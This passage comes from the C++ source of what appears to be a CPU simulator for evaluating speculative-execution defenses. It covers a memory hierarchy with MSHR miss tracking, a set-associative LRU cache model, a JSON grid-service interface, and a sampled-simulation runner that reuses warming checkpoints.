        return {params_.l1d.hitLatency, HitLevel::kL1};
    if (l2_.access(addr))
        return {params_.l2.hitLatency, HitLevel::kL2};
    return {params_.l2.hitLatency + params_.dramLatency, HitLevel::kMemory};
}

AccessResult
MemHierarchy::dataPeek(Addr addr) const
{
    if (l1d_.probe(addr))
        return {params_.l1d.hitLatency, HitLevel::kL1};
    if (l2_.probe(addr))
        return {params_.l2.hitLatency, HitLevel::kL2};
    return {params_.l2.hitLatency + params_.dramLatency, HitLevel::kMemory};
}

void
MemHierarchy::dataFill(Addr addr)
{
    l1d_.fill(addr);
    l2_.fill(addr);
}

AccessResult
MemHierarchy::instAccess(Addr addr)
{
    if (l1i_.access(addr))
        return {params_.l1i.hitLatency, HitLevel::kL1};
    if (l2_.access(addr))
        return {params_.l2.hitLatency, HitLevel::kL2};
    return {params_.l2.hitLatency + params_.dramLatency, HitLevel::kMemory};
}

MemRequestResult
MemHierarchy::dataRequest(Addr addr, Cycle now, InstSeqNum seq,
                          MshrTargetKind kind, unsigned tid)
{
    NDA_ASSERT(mshrEnabled(), "dataRequest needs mshrEntries > 0");
    if (l1d_.probe(addr)) {
        l1d_.access(addr);
        return {MemReqStatus::kHit, params_.l1d.hitLatency,
                HitLevel::kL1};
    }

    const Addr line = lineOf(addr);
    const MshrTarget target{seq, kind, tid};

    // Secondary miss: the line is already on its way to L1D.
    if (MshrEntry *e = mshrD_.find(line)) {
        if (!mshrD_.addTarget(*e, target))
            return {MemReqStatus::kRejected, 0, HitLevel::kMemory};
        l1d_.accessNoFill(addr);
        const bool off = e->fillAt > now + params_.l2.hitLatency;
        return {MemReqStatus::kMerged,
                static_cast<unsigned>(e->fillAt - now),
                off ? HitLevel::kMemory : HitLevel::kL2};
    }

    if (mshrD_.full()) {
        mshrD_.noteFullStall();
        return {MemReqStatus::kRejected, 0, HitLevel::kMemory};
    }

    // Primary miss filled from L2.
    if (l2_.probe(addr)) {
        l1d_.accessNoFill(addr);
        l2_.access(addr);
        const unsigned lat = params_.l2.hitLatency;
        mshrD_.allocate(line, now + lat, target);
        return {MemReqStatus::kMiss, lat, HitLevel::kL2};
    }

    // L2 miss: coalesce onto an in-flight DRAM request (possibly one
    // the instruction side started) or start a new one.
    if (MshrEntry *e2 = mshrL2_.find(line)) {
        if (!mshrL2_.addTarget(*e2, target))
            return {MemReqStatus::kRejected, 0, HitLevel::kMemory};
        l1d_.accessNoFill(addr);
        l2_.accessNoFill(addr);
        mshrD_.allocate(line, e2->fillAt, target);
        return {MemReqStatus::kMerged,
                static_cast<unsigned>(e2->fillAt - now),
                HitLevel::kMemory};
    }
    NDA_ASSERT(!mshrL2_.full(),
               "L2 MSHR file full despite L1-backed sizing");
    l1d_.accessNoFill(addr);
    l2_.accessNoFill(addr);
    const unsigned lat = params_.l2.hitLatency + params_.dramLatency;
    mshrL2_.allocate(line, now + lat, target);
    mshrD_.allocate(line, now + lat, target);
    return {MemReqStatus::kMiss, lat, HitLevel::kMemory};
}

MemRequestResult
MemHierarchy::instRequest(Addr addr, Cycle now)
{
    NDA_ASSERT(mshrEnabled(), "instRequest needs mshrEntries > 0");
    if (l1i_.probe(addr)) {
        l1i_.access(addr);
        return {MemReqStatus::kHit, params_.l1i.hitLatency,
                HitLevel::kL1};
    }

    const Addr line = lineOf(addr);
    const MshrTarget target{kInvalidSeqNum, MshrTargetKind::kFetch};

    if (MshrEntry *e = mshrI_.find(line)) {
        if (!mshrI_.addTarget(*e, target))
            return {MemReqStatus::kRejected, 0, HitLevel::kMemory};
        l1i_.accessNoFill(addr);
        const bool off = e->fillAt > now + params_.l2.hitLatency;
        return {MemReqStatus::kMerged,
                static_cast<unsigned>(e->fillAt - now),
                off ? HitLevel::kMemory : HitLevel::kL2};
    }

    if (mshrI_.full()) {
        mshrI_.noteFullStall();
        return {MemReqStatus::kRejected, 0, HitLevel::kMemory};
    }

    if (l2_.probe(addr)) {
        l1i_.accessNoFill(addr);
        l2_.access(addr);
        const unsigned lat = params_.l2.hitLatency;
        mshrI_.allocate(line, now + lat, target);
        return {MemReqStatus::kMiss, lat, HitLevel::kL2};
    }

    if (MshrEntry *e2 = mshrL2_.find(line)) {
        if (!mshrL2_.addTarget(*e2, target))
            return {MemReqStatus::kRejected, 0, HitLevel::kMemory};
        l1i_.accessNoFill(addr);
        l2_.accessNoFill(addr);
        mshrI_.allocate(line, e2->fillAt, target);
        return {MemReqStatus::kMerged,
                static_cast<unsigned>(e2->fillAt - now),
                HitLevel::kMemory};
    }
    NDA_ASSERT(!mshrL2_.full(),
               "L2 MSHR file full despite L1-backed sizing");
    l1i_.accessNoFill(addr);
    l2_.accessNoFill(addr);
    const unsigned lat = params_.l2.hitLatency + params_.dramLatency;
    mshrL2_.allocate(line, now + lat, target);
    mshrI_.allocate(line, now + lat, target);
    return {MemReqStatus::kMiss, lat, HitLevel::kMemory};
}

void
MemHierarchy::advance(Cycle now)
{
    if (!mshrEnabled())
        return;
    // L2 fills land before the L1 fills that depend on them; within a
    // file, (fillAt, allocation) order — bit-reproducible for any
    // request interleaving.
    for (const MshrEntry &e : mshrL2_.takeReady(now))
        l2_.fill(lineToAddr(e.lineAddr));
    for (const MshrEntry &e : mshrI_.takeReady(now))
        l1i_.fill(lineToAddr(e.lineAddr));
    for (const MshrEntry &e : mshrD_.takeReady(now))
        l1d_.fill(lineToAddr(e.lineAddr));
    mshrL2_.sampleOccupancy();
    mshrI_.sampleOccupancy();
    mshrD_.sampleOccupancy();
}

void
MemHierarchy::squashLoadTargets(InstSeqNum keep_seq, unsigned tid)
{
    if (!mshrEnabled())
        return;
    mshrD_.squashLoadTargets(keep_seq, tid);
    mshrL2_.squashLoadTargets(keep_seq, tid);
}

namespace {

/** Apply a file's pending fills to a captured tag image. */
void
drainInto(const Mshr &file, const CacheParams &params,
          Cache::Snapshot &snap)
{
    if (file.empty())
        return;
    Cache tmp(params);
    tmp.restore(snap);
    for (const MshrEntry &e : file.pendingSorted())
        tmp.fill(e.lineAddr * params.lineBytes);
    snap = tmp.save();
}

} // namespace

MemHierarchy::Snapshot
MemHierarchy::save() const
{
    Snapshot snap{l1i_.save(), l1d_.save(), l2_.save()};
    if (mshrEnabled() && !mshrDrained()) {
        drainInto(mshrL2_, params_.l2, snap.l2);
        drainInto(mshrI_, params_.l1i, snap.l1i);
        drainInto(mshrD_, params_.l1d, snap.l1d);
    }
    return snap;
}

void
MemHierarchy::restore(const Snapshot &snap)
{
    l1i_.restore(snap.l1i);
    l1d_.restore(snap.l1d);
    l2_.restore(snap.l2);
    mshrI_.clear();
    mshrD_.clear();
    mshrL2_.clear();
}

void
MemHierarchy::flushLine(Addr addr)
{
    l1d_.flush(addr);
    l1i_.flush(addr);
    l2_.flush(addr);
}

void
MemHierarchy::flushAll()
{
    l1i_.flushAll();
    l1d_.flushAll();
    l2_.flushAll();
}

void
MemHierarchy::registerStats(StatsRegistry &reg,
                            const std::string &prefix) const
{
    l1i_.registerStats(reg, prefix + ".l1i");
    l1d_.registerStats(reg, prefix + ".l1d");
    l2_.registerStats(reg, prefix + ".l2");
    mshrI_.registerStats(reg, prefix + ".l1i");
    mshrD_.registerStats(reg, prefix + ".l1d");
    mshrL2_.registerStats(reg, prefix + ".l2");
}

} // namespace nda
