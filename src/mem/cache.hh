/**
 * @file
 * Single-level set-associative cache model with true-LRU replacement.
 *
 * State-only (tags + LRU); data always comes from the functional
 * MemoryMap. Supports non-mutating `probe` lookups so the InvisiSpec
 * model can compute the latency a speculative load *would* see without
 * perturbing cache state (paper §7 / InvisiSpec).
 */

#ifndef NDASIM_MEM_CACHE_HH
#define NDASIM_MEM_CACHE_HH

#include <cstdint>
#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

class StatsRegistry;

/** Geometry/latency parameters of one cache level. */
struct CacheParams {
    std::string name = "cache";
    std::size_t sizeBytes = 32 * 1024;
    unsigned ways = 8;
    unsigned lineBytes = kLineSize;
    /** Round-trip hit latency in cycles (Table 3). */
    unsigned hitLatency = 4;
};

/** Tag-array model of a set-associative cache with true LRU. */
class Cache
{
  public:
    explicit Cache(const CacheParams &params);

    struct Line {
        Addr tag = 0;
        bool valid = false;
        std::uint64_t lastUse = 0; ///< LRU timestamp

        bool operator==(const Line &) const = default;
    };

    /**
     * Complete warming state: tags, LRU clock, and the access
     * counters (so a restored cache's stats dump matches the one it
     * was saved from bit-for-bit). Restore requires identical
     * geometry — tag/set decomposition depends on it.
     */
    struct Snapshot {
        std::vector<Line> lines;
        std::uint64_t useClock = 0;
        std::uint64_t hits = 0;
        std::uint64_t misses = 0;
        std::uint64_t fills = 0;

        bool operator==(const Snapshot &) const = default;
    };

    Snapshot save() const;
    void restore(const Snapshot &snap);

    /**
     * Look up `addr`; on hit, update LRU. On miss, allocate the line
     * (evicting LRU).
     * @return true on hit.
     */
    bool access(Addr addr);

    /**
     * Look up `addr` counting hit/miss and updating LRU on hit, but
     * do NOT allocate on miss — the fill arrives later through
     * `fill()` when the MSHR entry drains (non-blocking mode).
     * @return true on hit.
     */
    bool accessNoFill(Addr addr);

    /** Look up without changing any state. */
    bool probe(Addr addr) const;

    /** Insert the line containing addr (used for fills from below). */
    void fill(Addr addr);

    /** Invalidate the line containing addr if present. */
    void flush(Addr addr);

    /** Invalidate everything. */
    void flushAll();

    const CacheParams &params() const { return params_; }
    std::uint64_t hits() const { return hits_; }
    std::uint64_t misses() const { return misses_; }
    std::uint64_t fills() const { return fills_; }
    void resetStats() { hits_ = 0; misses_ = 0; fills_ = 0; }

    /** Bind hits/misses/fills + miss_rate under `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

    unsigned numSets() const { return numSets_; }

  private:
    Addr lineAddr(Addr addr) const { return addr / params_.lineBytes; }
    unsigned setIndex(Addr line) const
    {
        return static_cast<unsigned>(line % numSets_);
    }
    Addr tagOf(Addr line) const { return line / numSets_; }

    Line *findLine(Addr addr);
    const Line *findLineConst(Addr addr) const;

    CacheParams params_;
    unsigned numSets_;
    std::vector<Line> lines_;   ///< numSets_ * ways, set-major
    std::uint64_t useClock_ = 0;
    std::uint64_t hits_ = 0;
    std::uint64_t misses_ = 0;
    std::uint64_t fills_ = 0;  ///< fills from below (incl. exposes)
};

} // namespace nda

#endif // NDASIM_MEM_CACHE_HH
