#include "mem/cache.hh"

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

Cache::Cache(const CacheParams &params)
    : params_(params)
{
    NDA_ASSERT(params_.ways > 0, "cache needs at least one way");
    NDA_ASSERT(params_.lineBytes > 0 &&
                   (params_.lineBytes & (params_.lineBytes - 1)) == 0,
               "line size must be a power of two");
    const std::size_t num_lines = params_.sizeBytes / params_.lineBytes;
    NDA_ASSERT(num_lines % params_.ways == 0,
               "size/line/ways mismatch in %s", params_.name.c_str());
    numSets_ = static_cast<unsigned>(num_lines / params_.ways);
    lines_.resize(num_lines);
}

Cache::Snapshot
Cache::save() const
{
    return Snapshot{lines_, useClock_, hits_, misses_, fills_};
}

void
Cache::restore(const Snapshot &snap)
{
    NDA_ASSERT(snap.lines.size() == lines_.size(),
               "cache snapshot geometry mismatch in %s (%zu vs %zu "
               "lines)",
               params_.name.c_str(), snap.lines.size(), lines_.size());
    lines_ = snap.lines;
    useClock_ = snap.useClock;
    hits_ = snap.hits;
    misses_ = snap.misses;
    fills_ = snap.fills;
}

Cache::Line *
Cache::findLine(Addr addr)
{
    const Addr line = lineAddr(addr);
    const unsigned set = setIndex(line);
    const Addr tag = tagOf(line);
    Line *base = &lines_[static_cast<std::size_t>(set) * params_.ways];
    for (unsigned w = 0; w < params_.ways; ++w) {
        if (base[w].valid && base[w].tag == tag)
            return &base[w];
    }
    return nullptr;
}

const Cache::Line *
Cache::findLineConst(Addr addr) const
{
    return const_cast<Cache *>(this)->findLine(addr);
}

bool
Cache::access(Addr addr)
{
    ++useClock_;
    if (Line *line = findLine(addr)) {
        line->lastUse = useClock_;
        ++hits_;
        return true;
    }
    ++misses_;
    fill(addr);
    return false;
}

bool
Cache::accessNoFill(Addr addr)
{
    ++useClock_;
    if (Line *line = findLine(addr)) {
        line->lastUse = useClock_;
        ++hits_;
        return true;
    }
    ++misses_;
    return false;
}

bool
Cache::probe(Addr addr) const
{
    return findLineConst(addr) != nullptr;
}

void
Cache::fill(Addr addr)
{
    ++useClock_;
    if (Line *line = findLine(addr)) {
        line->lastUse = useClock_;
        return;
    }
    ++fills_;
    const Addr line_addr = lineAddr(addr);
    const unsigned set = setIndex(line_addr);
    Line *base = &lines_[static_cast<std::size_t>(set) * params_.ways];
    Line *victim = &base[0];
    for (unsigned w = 0; w < params_.ways; ++w) {
        if (!base[w].valid) {
            victim = &base[w];
            break;
        }
        if (base[w].lastUse < victim->lastUse)
            victim = &base[w];
    }
    victim->valid = true;
    victim->tag = tagOf(line_addr);
    victim->lastUse = useClock_;
}

void
Cache::flush(Addr addr)
{
    if (Line *line = findLine(addr))
        line->valid = false;
}

void
Cache::flushAll()
{
    for (auto &line : lines_)
        line.valid = false;
}

void
Cache::registerStats(StatsRegistry &reg,
                     const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("hits", &hits_, "lookups that hit");
    g.counter("misses", &misses_, "lookups that missed");
    g.counter("fills", &fills_,
              "line allocations (miss fills + explicit fills)");
    g.formula("miss_rate",
              [this] {
                  const std::uint64_t total = hits_ + misses_;
                  return total ? static_cast<double>(misses_) /
                                     static_cast<double>(total)
                               : 0.0;
              },
              "misses / lookups");
}

} // namespace nda
