/**
 * @file
 * Long-running grid service: the request/response core of
 * bench/grid_server. One JSON request line describes a workload x
 * profile grid (sampling parameters included); the service runs it on
 * the shared thread pool and streams newline-delimited JSON back —
 * progress lines while windows retire, one "cell" line per (workload,
 * profile) result, and a final "done" line carrying the harness
 * stats. Malformed requests produce a single "error" line and never
 * terminate the service.
 *
 * A CheckpointStore shared across requests is the point of running
 * this as a service instead of one bench process per figure: the
 * first request pays the fast-forwards and publishes the checkpoints;
 * every later request with the same (workload, seed, stride,
 * geometry) recipe hits the corpus and skips straight to the detailed
 * windows.
 */

#ifndef NDASIM_HARNESS_GRID_SERVICE_HH
#define NDASIM_HARNESS_GRID_SERVICE_HH

#include <cstdint>
#include <functional>
#include <string>
#include <utility>
#include <vector>

namespace nda {

class CheckpointStore;

/**
 * Minimal JSON document: the parse-side complement of JsonWriter.
 * Objects keep insertion order; numbers are doubles (every field the
 * grid protocol carries fits in 53 bits).
 */
struct JsonValue {
    enum class Kind { kNull, kBool, kNumber, kString, kArray, kObject };

    Kind kind = Kind::kNull;
    bool boolean = false;
    double number = 0.0;
    std::string string;
    std::vector<JsonValue> array;
    std::vector<std::pair<std::string, JsonValue>> object;

    /** Object member lookup; nullptr when absent or not an object. */
    const JsonValue *find(const std::string &key) const;
};

/**
 * Parse one JSON document from `text` (trailing whitespace allowed,
 * trailing garbage rejected). Returns false and fills `error` with a
 * byte-offset diagnostic on malformed input; never throws or aborts.
 */
bool parseJson(const std::string &text, JsonValue &out,
               std::string &error);

/** Cumulative service-side totals across all requests handled. */
struct GridServiceStats {
    std::uint64_t requests = 0;   ///< well-formed requests run
    std::uint64_t errors = 0;     ///< malformed requests rejected
    std::uint64_t cells = 0;      ///< (workload, profile) cells served
    std::uint64_t ckptHits = 0;   ///< corpus hits across requests
    std::uint64_t ckptMisses = 0; ///< corpus misses across requests
    std::uint64_t ckptBytes = 0;  ///< corpus bytes moved
};

/**
 * The grid request handler. Construct once (optionally around a
 * CheckpointStore whose lifetime exceeds the service) and feed it
 * request lines; responses are emitted through the callback so the
 * same service core drives both the stdin line protocol and the unix
 * socket front end of bench/grid_server.
 *
 * Request schema (all fields optional unless noted):
 *
 *   {"id": "r1",                  // echoed on every response line
 *    "workloads": ["compute"],    // default: the full suite
 *    "profiles": ["OoO", ...],    // Fig 7 names; default: all ten
 *    "fastforward": 1000000,      // functional fast-forward / stride
 *    "warmup": 20000, "measure": 100000, "samples": 3,
 *    "seed": 1, "jobs": 0,        // jobs 0 = hardware threads
 *    "chain": false,              // chained sampling (stride mode)
 *    "reuse": true,               // share checkpoints across profiles
 *    "cpi_stack": false}          // attach the causal CPI-stack
 *                                 // profiler to every window
 *
 * Response lines (one JSON object per line, in request order):
 *
 *   {"type":"progress","id":..,"done":N,"total":M}
 *   {"type":"cell","id":..,"workload":..,"profile":..,
 *    "cpi":..,"ci95":..,"mlp":..,"samples":N}
 *     ...plus, when the request set "cpi_stack": "slot_width",
 *     "cycles", and a "slots" object of nonzero per-cause commit-slot
 *     counts summing exactly to slot_width x cycles
 *   {"type":"done","id":..,"cells":N,"windows":N,
 *    "ckpt_hits":..,"ckpt_misses":..,"ckpt_bytes":..,
 *    "ckpt_chain_len":..,"ff_runs":..,"ff_insts":..}
 *   {"type":"error","id":..,"error":"..."}
 */
class GridService
{
  public:
    using Emit = std::function<void(const std::string &line)>;

    explicit GridService(CheckpointStore *corpus = nullptr)
        : corpus_(corpus)
    {
    }

    /**
     * Handle one request line, emitting response lines as results
     * become available. Returns false iff the request was rejected
     * (an "error" line was emitted); the service stays usable either
     * way.
     */
    bool handleRequest(const std::string &line, const Emit &emit);

    const GridServiceStats &stats() const { return stats_; }
    CheckpointStore *corpus() const { return corpus_; }

  private:
    CheckpointStore *corpus_;
    GridServiceStats stats_;
};

} // namespace nda

#endif // NDASIM_HARNESS_GRID_SERVICE_HH
