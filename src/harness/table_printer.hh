/**
 * @file
 * Plain-text table/series rendering helpers shared by the bench
 * binaries so every figure/table prints in a consistent format.
 */

#ifndef NDASIM_HARNESS_TABLE_PRINTER_HH
#define NDASIM_HARNESS_TABLE_PRINTER_HH

#include <string>
#include <vector>

namespace nda {

/** Column-aligned text table. */
class TablePrinter
{
  public:
    explicit TablePrinter(std::vector<std::string> headers);

    void addRow(std::vector<std::string> cells);

    /** Render with aligned columns to stdout. */
    void print() const;

    static std::string fmt(double v, int precision = 3);
    static std::string pct(double v, int precision = 1);

  private:
    std::vector<std::string> headers_;
    std::vector<std::vector<std::string>> rows_;
};

/** Print a figure banner: "=== Figure 7: ... ===". */
void printBanner(const std::string &title);

/** Render a simple ASCII bar chart line (for figure-like output). */
std::string asciiBar(double value, double max_value, int width = 40);

} // namespace nda

#endif // NDASIM_HARNESS_TABLE_PRINTER_HH
