#include "harness/runner.hh"

#include <algorithm>
#include <mutex>

#include "common/log.hh"
#include "common/stats_util.hh"
#include "common/thread_pool.hh"
#include "ckpt/checkpoint_store.hh"
#include "core/core_factory.hh"
#include "core/snapshot.hh"
#include "isa/interpreter.hh"
#include "obs/cpi_stack.hh"
#include "obs/stats_registry.hh"

namespace nda {

void
SampleParams::validate() const
{
    if (samples == 0)
        NDA_FATAL("SampleParams::samples is 0 — at least one sample "
                  "window is required to measure anything");
    if (measureInsts == 0)
        NDA_FATAL("SampleParams::measureInsts is 0 — an empty measured "
                  "window would report CPI over zero instructions");
    if (chainSamples && fastforwardInsts == 0)
        NDA_FATAL("SampleParams::chainSamples needs fastforwardInsts "
                  "> 0 — chained sampling places windows at multiples "
                  "of the fast-forward stride");
}

void
GridStats::accumulate(const WindowWork &w)
{
    ffInsts += w.ffInsts;
    ffRuns += w.ffRuns;
    checkpointRestores += w.restores;
    detailedWarmupInsts += w.warmupInsts;
    measuredInsts += w.measuredInsts;
    warmITouches += w.warmITouches;
    warmDTouches += w.warmDTouches;
    warmBpTrains += w.warmBpTrains;
    ++windows;
}

double
GridStats::ffSeconds() const
{
    for (const auto &phase : timings.phases()) {
        if (phase.first == "fast_forward")
            return phase.second;
    }
    return 0.0;
}

double
GridStats::ffMips() const
{
    const double secs = ffSeconds();
    return secs > 0.0 ? static_cast<double>(ffInsts) / secs / 1e6 : 0.0;
}

void
GridStats::registerStats(StatsRegistry &reg,
                         const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("ff_insts", &ffInsts,
              "functional fast-forward instructions executed");
    g.counter("ff_runs", &ffRuns,
              "fast-forwards executed (W*S with reuse, up to W*S*P "
              "without)");
    g.counter("checkpoint_restores", &checkpointRestores,
              "warming checkpoints restored into cores");
    g.counter("detailed_warmup_insts", &detailedWarmupInsts,
              "detailed-model warm-up instructions executed");
    g.counter("measured_insts", &measuredInsts,
              "detailed-model measured instructions executed");
    g.counter("windows", &windows, "measured sample windows run");
    g.counter("warm_i_touches", &warmITouches,
              "functional-warming i-cache accesses (fetch-line "
              "crossings) during fast-forward");
    g.counter("warm_d_touches", &warmDTouches,
              "functional-warming d-cache accesses (loads, stores, "
              "prefetches) during fast-forward");
    g.counter("warm_bp_trains", &warmBpTrains,
              "functional-warming branch trainings during "
              "fast-forward");
    g.counter("ckpt_hits", &ckptHits,
              "checkpoints loaded from the persistent corpus instead "
              "of fast-forwarded");
    g.counter("ckpt_misses", &ckptMisses,
              "corpus lookups that had to build (and publish) the "
              "checkpoint");
    g.counter("ckpt_bytes", &ckptBytes,
              "serialized checkpoint bytes read from plus published "
              "to the corpus");
    g.counter("ckpt_chain_len", &ckptChainLen,
              "longest fast-forward chain (checkpoints per workload) "
              "built or resumed; 0 unless chained sampling");
    g.formula("ff_mips", [this] { return ffMips(); },
              "fast-forward throughput, functional MIPS (ff_insts / "
              "fast_forward phase wall-clock)");
}

WindowStats
runWindow(const Workload &workload, const SimConfig &cfg,
          std::uint64_t seed, const SampleParams &p,
          const SimSnapshot *ckpt, WindowWork *work)
{
    const Program prog = workload.build(seed);
    auto core = makeCore(prog, cfg);
    WindowWork local;

    // CPI-stack attribution, measured window only (reset below). The
    // in-order model retires at most one instruction per cycle.
    std::unique_ptr<CpiStackProfiler> cpi;
    if (p.cpiStack) {
        cpi = std::make_unique<CpiStackProfiler>(
            cfg.inOrder ? 1u : cfg.core.commitWidth);
        core->attachCpiStack(cpi.get());
    }

    if (p.fastforwardInsts > 0) {
        if (ckpt != nullptr && ckpt->structurallyCompatible(cfg)) {
            core->restoreCheckpoint(*ckpt);
        } else {
            // No shared checkpoint (legacy path) or its warming state
            // does not fit this config's geometry: fast-forward for
            // this window alone. Same deterministic procedure either
            // way, so results never depend on which path ran.
            WarmingWork warm;
            const SimSnapshot own = buildWarmCheckpoint(
                prog, cfg.memory, cfg.core.predictor,
                p.fastforwardInsts, nullptr, &warm);
            core->restoreCheckpoint(own);
            local.ffInsts += p.fastforwardInsts;
            ++local.ffRuns;
            local.warmITouches += warm.iTouches;
            local.warmDTouches += warm.dTouches;
            local.warmBpTrains += warm.bpTrains;
        }
        ++local.restores;
        NDA_ASSERT(!core->halted(),
                   "workload '%s' halted during fast-forward — too "
                   "short", workload.name().c_str());
    }

    // Warm pipeline state (and, without a fast-forward, caches and
    // predictors too) under the detailed model.
    core->run(p.warmupInsts, ~Cycle{0});
    NDA_ASSERT(!core->halted(),
               "workload '%s' halted during warm-up — too short",
               workload.name().c_str());
    local.warmupInsts += p.warmupInsts;

    // Measured window.
    core->resetCounters();
    if (cpi)
        cpi->reset();
    core->run(p.measureInsts, ~Cycle{0});
    NDA_ASSERT(!core->halted(),
               "workload '%s' halted during measurement",
               workload.name().c_str());

    const PerfCounters &c = core->counters();
    local.measuredInsts += c.committedInsts;
    if (work)
        *work = local;

    WindowStats w;
    w.cpi = c.cpi();
    w.mlp = c.mlp();
    w.ilp = c.ilp();
    w.dispatchToIssue = c.dispatchToIssue.mean();
    w.commitFrac = c.cycleFraction(CycleClass::kCommit);
    w.memStallFrac = c.cycleFraction(CycleClass::kMemoryStall);
    w.backendStallFrac = c.cycleFraction(CycleClass::kBackendStall);
    w.frontendStallFrac = c.cycleFraction(CycleClass::kFrontendStall);
    w.condMispredictRate = c.condMispredictRate();
    w.instructions = c.committedInsts;
    w.cycles = c.cycles;
    if (cpi) {
        w.slotWidth = cpi->width();
        w.slotStack.resize(kNumStallCauses);
        for (int i = 0; i < kNumStallCauses; ++i)
            w.slotStack[i] = cpi->slots(static_cast<StallCause>(i));
        w.hotspots = cpi->hotspots().topN(kHotspotTopN);
    }
    return w;
}

RunResult
aggregateWindows(const std::vector<WindowStats> &windows)
{
    RunResult result;
    WindowStats acc;
    for (const WindowStats &w : windows) {
        result.cpiSamples.push_back(w.cpi);
        acc.cpi += w.cpi;
        acc.mlp += w.mlp;
        acc.ilp += w.ilp;
        acc.dispatchToIssue += w.dispatchToIssue;
        acc.commitFrac += w.commitFrac;
        acc.memStallFrac += w.memStallFrac;
        acc.backendStallFrac += w.backendStallFrac;
        acc.frontendStallFrac += w.frontendStallFrac;
        acc.condMispredictRate += w.condMispredictRate;
        acc.instructions += w.instructions;
        acc.cycles += w.cycles;
        // Slot stacks SUM like instructions/cycles, so the identity
        // sum(stack) == width x cycles survives aggregation exactly.
        if (!w.slotStack.empty()) {
            acc.slotWidth = w.slotWidth;
            if (acc.slotStack.empty())
                acc.slotStack.assign(kNumStallCauses, 0);
            for (int i = 0; i < kNumStallCauses; ++i)
                acc.slotStack[i] += w.slotStack[i];
        }
    }
    if (!acc.slotStack.empty()) {
        // Re-rank the union of the per-window top-N lists (windows in
        // index order, so the merge is schedule-independent).
        HotspotProfiler merged;
        for (const WindowStats &w : windows) {
            for (const HotspotEntry &e : w.hotspots)
                merged.mergeEntry(e);
        }
        acc.hotspots = merged.topN(kHotspotTopN);
    }
    const double n = static_cast<double>(windows.size());
    acc.cpi /= n;
    acc.mlp /= n;
    acc.ilp /= n;
    acc.dispatchToIssue /= n;
    acc.commitFrac /= n;
    acc.memStallFrac /= n;
    acc.backendStallFrac /= n;
    acc.frontendStallFrac /= n;
    acc.condMispredictRate /= n;
    result.mean = acc;
    result.cpiCi95 = confidenceHalfWidth95(result.cpiSamples);
    return result;
}

RunResult
runSampled(const Workload &workload, const SimConfig &cfg,
           const SampleParams &p)
{
    SampleParams q = p;
    q.jobs = std::min<unsigned>(std::max(1u, p.jobs), p.samples);
    const std::vector<const Workload *> ws{&workload};
    const std::vector<SimConfig> cs{cfg};
    return runGrid(ws, cs, q).front();
}

namespace {

/**
 * Corpus probe used by the shared-checkpoint phase: a hit must be
 * CRC-clean (CheckpointStore::load enforces that) AND structurally
 * compatible with the grid's geometry — the key fingerprint should
 * guarantee compatibility, but a fingerprint collision or a tampered
 * entry must degrade to a rebuild, never into restoring tags of the
 * wrong shape. `bytes` accumulates corpus traffic either way.
 */
bool
corpusLoad(CheckpointStore *corpus, const CkptKey &key,
           const SimConfig &cfg, SimSnapshot &out, std::uint64_t *bytes)
{
    if (!corpus)
        return false;
    std::uint64_t entry_bytes = 0;
    if (!corpus->load(key, out, &entry_bytes))
        return false;
    if (!out.structurallyCompatible(cfg)) {
        NDA_WARN("ckpt: corpus entry '%s' is structurally "
                 "incompatible with the requested geometry — "
                 "rebuilding", key.fileName().c_str());
        return false;
    }
    *bytes += entry_bytes;
    return true;
}

} // namespace

std::vector<RunResult>
runGrid(const std::vector<const Workload *> &workloads,
        const std::vector<SimConfig> &configs, const SampleParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress,
        GridStats *stats, CheckpointStore *corpus)
{
    p.validate();
    const std::size_t cells = workloads.size() * configs.size();
    const std::size_t total = cells * p.samples;
    std::vector<WindowStats> windows(total);
    std::vector<WindowWork> work(total);
    PhaseTimings timings;

    // The effective fast-forward and program seed of one (workload,
    // sample): chained sampling measures offsets s x stride of ONE
    // run (seed = baseSeed); classic sampling measures offset
    // `fastforwardInsts` of S independently-seeded runs.
    const auto window_ff = [&p](std::size_t sample) {
        return p.chainSamples
                   ? p.fastforwardInsts * (sample + 1)
                   : p.fastforwardInsts;
    };
    const auto window_seed = [&p](std::size_t sample) {
        return p.chainSamples
                   ? p.baseSeed
                   : p.baseSeed + static_cast<std::uint64_t>(sample);
    };

    // Phase 1: one warming checkpoint per (workload, sample), built
    // with the first config's geometry and shared across profiles.
    // The functional prefix of a sample does not depend on the
    // profile, so this turns W*S*P fast-forwards into W*S — and with
    // chained sampling into W fast-forward *chains*. A corpus, when
    // given, replaces builds with loads wherever it already holds the
    // (workload, seed, ff, geometry) entry.
    std::vector<SimSnapshot> checkpoints;
    const bool share = p.reuseCheckpoints && p.fastforwardInsts > 0 &&
                       !configs.empty() && !workloads.empty();
    if (share) {
        ScopedTimer t(timings, "fast_forward");
        const std::size_t n_ckpts = workloads.size() * p.samples;
        checkpoints.resize(n_ckpts);
        // Per-task accounting slots: reduced in index order below, so
        // the numbers are identical for any pool schedule.
        std::vector<WarmingWork> warm(n_ckpts);
        std::vector<std::uint64_t> ff_insts(n_ckpts, 0);
        std::vector<std::uint8_t> built(n_ckpts, 0);
        std::vector<std::uint64_t> corpus_bytes(n_ckpts, 0);
        const std::uint64_t geom_fp = geometryFingerprint(
            configs[0].memory, configs[0].core.predictor);

        if (p.chainSamples) {
            // One serial chain per workload; workloads in parallel.
            ThreadPool ff_pool(std::max(1u, p.jobs));
            ff_pool.parallelFor(workloads.size(), [&](std::size_t w) {
                const Program prog = workloads[w]->build(p.baseSeed);
                const SimSnapshot *prev = nullptr;
                for (unsigned s = 0; s < p.samples; ++s) {
                    const std::size_t task = w * p.samples + s;
                    const std::uint64_t target = window_ff(s);
                    const CkptKey key{workloads[w]->name(), p.baseSeed,
                                      target, geom_fp};
                    if (!corpusLoad(corpus, key, configs[0],
                                    checkpoints[task],
                                    &corpus_bytes[task])) {
                        checkpoints[task] =
                            prev ? extendWarmCheckpoint(
                                       prog, *prev, target, nullptr,
                                       &warm[task])
                                 : buildWarmCheckpoint(
                                       prog, configs[0].memory,
                                       configs[0].core.predictor,
                                       target, nullptr, &warm[task]);
                        ff_insts[task] =
                            target -
                            (prev ? prev->arch.instCount : 0);
                        built[task] = 1;
                        if (corpus)
                            corpus_bytes[task] += corpus->store(
                                key, checkpoints[task]);
                    }
                    prev = &checkpoints[task];
                }
